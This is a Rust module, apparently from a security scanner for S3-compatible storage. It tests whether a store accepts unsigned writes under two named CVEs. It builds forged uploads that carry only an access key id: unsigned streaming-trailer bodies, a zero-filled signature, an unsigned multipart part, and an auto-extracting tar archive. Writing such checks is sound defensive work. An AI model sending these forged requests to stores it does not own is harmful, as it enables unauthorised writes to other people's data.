//! Writes whose signature some stores forget to check: CVE-2026-41145 and CVE-2026-40344. All they need is the id of a key, which
//! every signed URL shows. The bodies are such that a store that falls for them really stores them.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use jiff::Timestamp;
use reqwest::Method as HttpMethod;
use sha2::{Digest, Sha256};
use url::Url;

use super::{
    Finding, Unreachable,
    catalog::{
        UNSIGNED_ARCHIVE, UNSIGNED_TRAILER, UNSIGNED_TRAILER_AUTHORIZATION, UNSIGNED_TRAILER_PART,
    },
    ground::Ground,
    own_key::list_parts,
};
use crate::s3::signing::Sender;

const TRAILER_PAYLOAD: &str = "STREAMING-UNSIGNED-PAYLOAD-TRAILER";
const TAR_BLOCK: usize = 512;

pub(super) async fn check(ground: &Ground) -> Result<Vec<Finding>, Unreachable> {
    let forged = Forged::new(ground);
    Ok(vec![
        UNSIGNED_TRAILER.judge(!forged.stores_object(None).await?),
        UNSIGNED_TRAILER_AUTHORIZATION
            .judge(!forged.stores_object(Some(&forged.authorization())).await?),
        UNSIGNED_TRAILER_PART.judge(!forged.stores_part().await?),
        UNSIGNED_ARCHIVE.judge(!forged.unpacks_archive().await?),
    ])
}

struct Forged<'a> {
    ground: &'a Ground,
    /// As it stands in every signed URL.
    credential: String,
    date: String,
}

impl<'a> Forged<'a> {
    fn new(ground: &'a Ground) -> Self {
        let config = &ground.config;
        let keys = config.upload_keys.as_ref().unwrap_or(&config.keys);
        let date = Timestamp::now().strftime("%Y%m%dT%H%M%SZ").to_string();
        let day = date.get(..8).unwrap_or_default();
        Self {
            ground,
            credential: format!(
                "{}/{day}/{}/s3/aws4_request",
                keys.access_key, config.region
            ),
            date,
        }
    }

    fn url(&self, key: &str) -> Url {
        let mut url = self.ground.signer.unsigned(Sender::Uploader, Some(key));
        url.query_pairs_mut()
            .append_pair("X-Amz-Credential", &self.credential);
        url
    }

    fn authorization(&self) -> String {
        format!(
            "AWS4-HMAC-SHA256 Credential={}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={}",
            self.credential,
            "0".repeat(64)
        )
    }

    async fn stores_object(&self, authorization: Option<&str>) -> Result<bool, Unreachable> {
        let absent = self.ground.sample();
        let more: Vec<_> = authorization
            .map(|value| ("authorization", value))
            .into_iter()
            .collect();
        self.send(self.url(&absent.key), &absent.bytes, &more)
            .await?;
        Ok(self.ground.read(&absent.key).await?.is_some())
    }

    async fn stores_part(&self) -> Result<bool, Unreachable> {
        let sample = self.ground.sample();
        let Ok(id) = self.ground.begin_parts(&sample.key).await? else {
            // Reported as such; without parts there is nothing to send.
            return Ok(false);
        };
        let mut url = self.url(&sample.key);
        url.query_pairs_mut()
            .append_pair("partNumber", "1")
            .append_pair("uploadId", &id);
        self.send(url, &sample.bytes, &[]).await?;
        let listed = self
            .ground
            .own(&list_parts(&sample.key, &id), Vec::new())
            .await?;
        Ok(!listed.text_of("PartNumber").is_empty())
    }

    /// Framed and bare, because stores that unpack forget the framing along with the signature.
    async fn unpacks_archive(&self) -> Result<bool, Unreachable> {
        let mut stored = false;
        for is_framed in [true, false] {
            let (archive, inside) = (self.ground.sample(), self.ground.sample());
            let bytes = archive_of(&inside.key, &inside.bytes);
            let unpack = ("x-amz-meta-snowball-auto-extract", "true");
            if is_framed {
                self.send(self.url(&archive.key), &bytes, &[unpack]).await?;
            } else {
                let headers = [
                    ("x-amz-content-sha256", TRAILER_PAYLOAD),
                    ("x-amz-date", &self.date),
                    unpack,
                ];
                self.ground
                    .forged(HttpMethod::PUT, self.url(&archive.key), &headers, bytes)
                    .await?;
            }
            stored |= self.ground.read(&archive.key).await?.is_some();
            stored |= self.ground.read(&inside.key).await?.is_some();
        }
        Ok(stored)
    }

    async fn send(&self, url: Url, bytes: &[u8], more: &[(&str, &str)]) -> Result<(), Unreachable> {
        let length = bytes.len().to_string();
        let mut headers = vec![
            ("x-amz-content-sha256", TRAILER_PAYLOAD),
            ("x-amz-date", self.date.as_str()),
            ("x-amz-decoded-content-length", length.as_str()),
            ("x-amz-trailer", "x-amz-checksum-sha256"),
            ("content-encoding", "aws-chunked"),
        ];
        headers.extend_from_slice(more);
        self.ground
            .forged(HttpMethod::PUT, url, &headers, framed(bytes))
            .await?;
        Ok(())
    }
}

/// One chunk, the end, and the trailer with its right digest.
fn framed(bytes: &[u8]) -> Vec<u8> {
    let digest = STANDARD.encode(Sha256::digest(bytes));
    let mut body = format!("{:x}\r\n", bytes.len()).into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n0\r\nx-amz-checksum-sha256:{digest}\r\n\r\n").as_bytes());
    body
}

/// A tar archive of one file.
fn archive_of(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = [0_u8; TAR_BLOCK];
    let mut set = |at: usize, text: &str| {
        if let Some(field) = header.get_mut(at..at + text.len()) {
            field.copy_from_slice(text.as_bytes());
        }
    };
    // The name field takes 100 bytes; what comes before the last slash goes into the prefix.
    let (folder, file) = name.rsplit_once('/').unwrap_or(("", name));
    set(0, file);
    set(100, "0000644\0");
    set(108, "0000000\0");
    set(116, "0000000\0");
    set(124, &format!("{:011o}\0", bytes.len()));
    set(136, "00000000000\0");
    set(148, "        ");
    set(156, "0");
    set(257, "ustar\u{0}00");
    set(345, folder);
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    let sum = format!("{sum:06o}\0 ");
    header[148..156].copy_from_slice(sum.as_bytes());
    let mut archive = header.to_vec();
    archive.extend_from_slice(bytes);
    archive.resize(archive.len().next_multiple_of(TAR_BLOCK) + 2 * TAR_BLOCK, 0);
    archive
}
